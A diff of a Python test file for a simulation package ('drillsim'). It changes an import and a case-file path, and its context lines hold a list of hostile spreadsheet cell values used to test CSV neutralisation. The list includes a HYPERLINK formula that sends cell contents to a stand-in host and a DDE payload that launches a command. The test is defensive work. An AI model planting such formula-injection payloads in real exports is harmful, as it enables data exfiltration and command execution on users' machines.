@@ -24,7 +24,7 @@ from drillsim.files import csv_rows, csv_text, frame_csv, neutralise, read_frame
 from drillsim.outputs import write_run
 from drillsim.report.rundir import SavedRun
 from drillsim.scenario import Scenario, load
-from tests.conftest import ROOT
+from tests.helpers import CASES, ROOT
 
 HOSTILE = ['=HYPERLINK("http://evil.invalid/?"&A1,"click")', "-1+2", "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
            "\tTab first", "\rCR first", "two lines\r\nthe second, with a comma and \"quotes\"", "a lone\rCR inside",
@@ -43,7 +43,7 @@ def _spreadsheet_safe(cell: str) -> bool:
 
 def _hostile_scenario(tmp_path: Path) -> Path:
     """The hand-computed case with a hostile name and an inject description of every hostile text."""
-    data = yaml.safe_load((ROOT / "tests" / "cases" / "night-one-grid-worker.yaml").read_text(encoding="utf-8"))
+    data = yaml.safe_load((CASES / "night-one-grid-worker.yaml").read_text(encoding="utf-8"))
     data["name"] = HOSTILE[0]
     data["injects"] = [{"at": f"01:{i:02d}", "category": "social_security", "example": "group_fight",
                         "level": "III", "grid": "grid_1", "description": text} for i, text in enumerate(HOSTILE)]
